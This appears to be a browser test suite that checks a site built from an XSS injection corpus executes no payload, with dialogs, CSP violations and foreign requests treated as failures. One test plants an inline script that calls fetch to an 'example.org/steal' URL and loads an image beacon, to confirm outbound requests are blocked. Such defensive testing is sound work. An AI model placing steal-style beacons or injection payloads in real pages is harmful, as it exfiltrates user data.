"""The site built from the injection corpus, in Chromium: no payload runs on any page.

Every page of the injected services (the service page and its easy-read page), the browse
lists and the directory searching for the attack words are loaded in turn. The test fails if a
dialog opens, a payload sets window.__pwned, or the Content Security Policy blocks anything
(a blocked inline script would mean one got into the page). Mouse-over, focus and click events
are sent to every element, so an event handler would fire if one had got through.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.sites import built_site_dir, html_pages, page_url_path

from .conftest import DESKTOP, PageWatch
from .watch import SecurityWatch

pytestmark = pytest.mark.browser

# Fired at every element; a listener first stops clicks following links or sending forms.
POKE = """() => {
  document.addEventListener("click", (event) => event.preventDefault(), true);
  document.addEventListener("submit", (event) => event.preventDefault(), true);
  for (const element of document.querySelectorAll("body *")) {
    for (const type of ["mouseover", "mouseenter", "focus", "toggle", "click"]) {
      element.dispatchEvent(new Event(type, {bubbles: true}));
    }
  }
}"""


@pytest.fixture(scope="module")
def injection_site() -> Path:
    return built_site_dir("injection")


@pytest.fixture(scope="module")
def injection_url(serve: object, injection_site: Path) -> str:
    return serve(injection_site)  # type: ignore[operator]


@pytest.fixture(scope="module")
def watched(browser: Browser) -> Iterator[tuple[Page, SecurityWatch]]:
    # Every request to another host fails before it leaves the machine (the browser fixture's
    # proxy that is not there), and PageWatch records it. A route() that aborted them would make
    # Playwright handle every request of the page, and Chromium then fetches every stylesheet,
    # script and picture again for each page: the injected pages took three times as long.
    context = browser.new_context(viewport=DESKTOP, locale="en-GB")  # type: ignore[arg-type]
    watch = PageWatch()
    watch.attach(context)
    security = SecurityWatch(context)
    yield context.new_page(), security
    context.close()
    assert not watch.foreign_requests, f"requests to other hosts: {watch.foreign_requests}"
    assert not watch.errors, f"script errors: {watch.errors}"


def test_a_request_to_another_host_never_leaves_the_machine(
    browser: Browser, serve: object, tmp_path: Path
) -> None:
    """The browser fixture's guard, which every browser test relies on."""
    # A page without the site's Content Security Policy, which would stop these first.
    (tmp_path / "index.html").write_text(
        "<!doctype html><title>Out</title><script>"
        "fetch('http://example.org/steal').catch(() => {});"
        "new Image().src = 'http://192.0.2.1/pixel.png';"
        "</script>",
        encoding="utf-8",
    )
    context = browser.new_context()
    watch = PageWatch()
    watch.attach(context)
    failed: list[tuple[str, str | None]] = []
    context.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    page = context.new_page()
    page.goto(serve(tmp_path))  # type: ignore[operator]
    for _ in range(100):  # both fail at once; allow them 5 s
        if len(failed) == 2:
            break
        page.wait_for_timeout(50)
    context.close()
    assert sorted(failed) == [
        ("http://192.0.2.1/pixel.png", "net::ERR_PROXY_CONNECTION_FAILED"),
        ("http://example.org/steal", "net::ERR_PROXY_CONNECTION_FAILED"),
    ]
    assert sorted(watch.foreign_requests) == [url for url, _ in sorted(failed)]


def _check(page: Page, security: SecurityWatch, url: str) -> list[str]:
    page.goto(url)
    page.evaluate(POKE)
    found = security.page_findings(page) + security.console + security.dialogs
    security.console.clear()
    security.dialogs.clear()
    return [f"{url}: {item}" for item in found]


# The injected pages are checked in this many parts, so that the test workers share them (all
# of them in one test took about 40 s on one worker).
PARTS = 6


def _injected_pages(injection_site: Path) -> list[str]:
    """Every page of an injected service, and every browse list."""
    return [
        page_url_path(injection_site, p)
        for p in html_pages(injection_site)
        if "/injection-" in p.as_posix() or p.parent.parent.name == "services"
    ]


def test_there_are_many_injected_pages_to_check(injection_site: Path) -> None:
    assert len(_injected_pages(injection_site)) > 100


@pytest.mark.parametrize("part", range(PARTS))
def test_no_payload_runs_on_any_injected_page(
    watched: tuple[Page, SecurityWatch], injection_site: Path, injection_url: str, part: int
) -> None:
    page, security = watched
    paths = _injected_pages(injection_site)[part::PARTS]
    found: list[str] = []
    for path in paths:
        found += _check(page, security, injection_url + path)
    assert found == []


@pytest.mark.parametrize("words", ["script", "pwned onerror", "javascript", "img src"])
def test_no_payload_runs_in_the_directory_results(
    watched: tuple[Page, SecurityWatch], injection_url: str, words: str
) -> None:
    page, security = watched
    page.goto(f"{injection_url}services/?q={words}")
    expect(page.locator("#lo-status")).to_have_text(re.compile(r"match"))
    expect(page.locator("#lo-results > li").first).to_be_visible()
    page.evaluate(POKE)
    found = security.page_findings(page) + security.console + security.dialogs
    assert found == []
